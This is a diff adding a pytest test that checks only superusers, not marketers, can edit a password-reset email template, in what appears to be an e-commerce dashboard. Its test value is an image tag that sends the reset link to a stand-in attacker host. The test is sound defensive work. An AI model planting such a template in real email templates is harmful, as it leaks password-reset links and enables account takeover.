@@ -436,3 +436,20 @@ def test_r46_the_data_migration_marks_existing_secrets_and_erases_their_sent_bod
         "Code 123456",
     )
     assert (rows[order.pk].has_secret, rows[order.pk].body) == (False, "Thanks")
+
+
+@pytest.mark.parametrize(("role", "status"), [("marketer", 403), ("superuser", 200)])
+def test_r46_templates_of_secret_messages_are_for_superusers_only(role_client, role, status):
+    # A reset email's HTML could carry the link to a server of the editor's (an image the
+    # admin's mail client loads): its templates are not a marketer's to change.
+    event_type = CommunicationEventType.objects.create(code="PASSWORD_RESET", name="Reset")
+    url = reverse("communication:dashboard-templates", args=["PASSWORD_RESET"])
+    exfiltrate = '<img src="https://evil.example/?l={{ reset_url }}">'
+    client = role_client(role)
+
+    assert client.get(url).status_code == status
+    response = client.post(url, {"fr-email_body_html_template": exfiltrate})
+
+    assert response.status_code == (403 if role == "marketer" else 302)
+    stored = event_type.translations.filter(email_body_html_template=exfiltrate).exists()
+    assert stored is (role == "superuser")
